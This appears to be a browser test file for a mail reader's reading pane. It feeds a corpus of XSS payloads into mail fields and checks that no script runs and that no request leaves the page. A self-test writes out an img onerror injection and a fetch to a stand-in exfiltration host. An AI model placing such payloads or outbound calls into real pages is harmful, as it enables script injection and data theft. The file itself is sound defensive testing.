/**
 * Script injection in the real pane: the payloads of ../shared/corpora/xss in every place mail
 * content reaches the pane (test/browser/xss/mails.ts), loaded through the demo host in Chromium
 * from the built dist/ (test/browser/xss/run.ts). Any executed script (the canary, a dialog), CSP
 * violation, console error, request to another origin, element the view did not make, a pane
 * that ends without a verdict or a report that cannot be sent fails the run, naming the mail and
 * the payloads in it.
 *
 * `npm test` (test:browser) runs a representative subset: every family of payload, chosen
 * deterministically. `npm run test:xss` runs all of them (CTM_XSS=full), in chunks, with
 * progress and a summary.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { corpusPresent, loadFiles, loadPayloads, PAYLOAD_FILE, representativeSubset, type Payload } from "./xss/corpus.js";
import { buildMails, type XssMail } from "./xss/mails.js";
import { type MailOutcome, XssRunner } from "./xss/run.js";
import { formatSummary, summarize, writeSummary } from "./xss/summary.js";

const FULL = process.env.CTM_XSS === "full";
const MODE = FULL ? "full" : "subset";
const present = corpusPresent();
const all = present ? loadPayloads() : [];
const payloads: Payload[] = FULL ? all : representativeSubset(all);
const mails: XssMail[] = buildMails(payloads, present ? loadFiles() : []);
const CHUNK = FULL ? 200 : mails.length;
const chunks: XssMail[][] = [];
for (let i = 0; i < mails.length; i += CHUNK) chunks.push(mails.slice(i, i + CHUNK));

/** Share of a field's placements that must show in the field's own place (test/browser/xss/run.ts EXPECTED_REGIONS). */
const DEFAULT_IN_PLACE = 0.85;
const IN_PLACE_FLOORS: readonly (readonly [prefix: string, floor: number])[] = [
  // A payload that breaks the field's syntax (a ";" or "=") leaves the result unparsed; the pane
  // then lists the raw header in the report preview instead of the authentication section.
  ["authentication-results/", 0.35], // 39.0 % in the full run, 45.6 % in the subset
  // The reading pane shows the HTML rendered (inertly), so markup in a payload is not its text.
  ["body-html/text", 0.03], // 4.1 % in the full run, 14.4 % in the subset
  // A payload whose markup can reach the network is taken out and the rest written back
  // (src/demo/inert-html.ts): the srcdoc then holds the stripped markup, not the payload.
  ["body-html/raw", 0.6], // 73.8 % in the subset
  // A URL in plain text ends at the first space, quote or "<", as in every mail reader.
  ["text-url/", 0],
];

const payloadById = new Map(payloads.map((p) => [p.id, p]));
const outcomes: MailOutcome[] = [];
let runner: XssRunner | undefined;
let started = 0;

/** A failure, traceable: the mail, what went wrong, and which payload was where. */
function explain(mail: XssMail, outcome: MailOutcome): string {
  const where = new Map<number, string[]>();
  for (const p of mail.placements) where.set(p.payload, [...(where.get(p.payload) ?? []), p.field]);
  const carried = [...where].map(([id, fields]) => `    payload ${id} ${JSON.stringify(payloadById.get(id)?.original.slice(0, 120))} in ${fields.join(", ")}`);
  const files = mail.files.map((f) => `    corpus file ${f}`);
  return [`${mail.name}:`, ...outcome.problems.slice(0, 20).map((p) => `  ${p}`), "  carrying:", ...carried.slice(0, 40), ...files].join("\n");
}

beforeAll(async () => {
  started = performance.now();
  if (present) runner = await XssRunner.start(payloads);
}, 120_000);

afterAll(async () => {
  await runner?.close();
  if (outcomes.length === 0) return;
  const summary = summarize(MODE, payloads, mails, outcomes, (performance.now() - started) / 1000);
  const file = writeSummary(summary);
  console.log(`${formatSummary(summary)}\n  (also in ${file})`);
});

describe(`script injection in the real pane (${MODE}: ${payloads.length} payloads, ${mails.length} mails)`, () => {
  it("has the corpus beside the repository (../shared/corpora/xss), as in CI", () => {
    expect(present, `The XSS corpus is missing at ${PAYLOAD_FILE} (it lives outside the repository; CI provides it).`).toBe(true);
    expect(mails.length).toBeGreaterThan(0);
  });

  chunks.forEach((chunk, c) => {
    const first = c * CHUNK + 1;
    it(
      `mails ${first}–${first + chunk.length - 1} of ${mails.length}: no script runs, nothing is refused or requested, only the view's elements`,
      async () => {
        const failures: string[] = [];
        for (const mail of chunk) {
          const outcome = await runner!.run(mail);
          outcomes.push(outcome);
          if (outcome.problems.length === 0) continue;
          failures.push(explain(mail, outcome));
          // A long run says what it found as it finds it, not only at the end.
          if (FULL) console.log(`[xss] problem\n${failures.at(-1)}`);
        }
        if (FULL) {
          const seconds = (performance.now() - started) / 1000;
          const done = outcomes.length;
          const left = ((mails.length - done) * seconds) / done;
          console.log(`[xss] ${done}/${mails.length} mails, ${outcomes.filter((o) => o.problems.length > 0).length} with problems, ${seconds.toFixed(0)} s so far, about ${(left / 60).toFixed(1)} min left`);
        }
        expect(failures, failures.slice(0, 5).join("\n\n")).toEqual([]);
      },
      Math.max(60_000, chunk.length * 3_000),
    );
  });

  it("the inspection is not blind: script made to run in the pane or the page is caught", async () => {
    const mail = mails.find((m) => m.kind === "single")!;
    const caught = async (tamper: Parameters<XssRunner["run"]>[1]): Promise<string> => (await runner!.run(mail, tamper)).problems.join("\n");
    expect(await caught(async (_, pane) => pane.evaluate(() => window.__ctmCanary?.("self-test")))).toContain("canary ran in the pane: self-test");
    expect(
      await caught(async (_, pane) =>
        pane.evaluate(() => {
          const holder = document.createElement("div");
          holder.innerHTML = '<img src="data:," onerror="__ctmCanary(1)">';
          document.body.append(holder);
        }),
      ),
    ).toMatch(/not made by the pane[\s\S]*CSP violation in the pane|CSP violation in the pane[\s\S]*not made by the pane/);
    // The demo page's CSP refuses the fetch before it leaves; either way the run must say so.
    expect(await caught(async (page) => page.evaluate(() => void fetch("https://exfiltrate.example/x").catch(() => undefined)))).toMatch(
      /request to another origin: https:\/\/exfiltrate\.example\/x|CSP violation in the demo host: connect-src blocked https:\/\/exfiltrate\.example\/x/,
    );
    expect(await caught(async (page) => page.evaluate(() => void setTimeout(() => alert("self-test"), 0)))).toContain("dialog: alert: self-test");
  });

  it("every payload reached the pane, and each field its own place in it", () => {
    const summary = summarize(MODE, payloads, mails, outcomes, 0);
    expect(outcomes.length).toBe(mails.length);
    // Non-vacuity: a payload the pane never showed proves nothing. Every placement must show up
    // somewhere the run looks, and most in the place its field belongs (the share is lower where
    // a parser rightly reads less than the whole payload).
    const short: string[] = [];
    for (const f of summary.fields) {
      const floor = IN_PLACE_FLOORS.find(([prefix]) => f.field.startsWith(prefix))?.[1] ?? DEFAULT_IN_PLACE;
      if (f.anywhere < f.placements) short.push(`${f.field}: ${f.placements - f.anywhere} of ${f.placements} placements shown nowhere`);
      if (f.inPlace < floor * f.placements) short.push(`${f.field}: ${f.inPlace} of ${f.placements} in place, below ${floor * 100}%`);
    }
    expect(short).toEqual([]);
    expect(summary.fields.length).toBeGreaterThanOrEqual(40);
  });
});
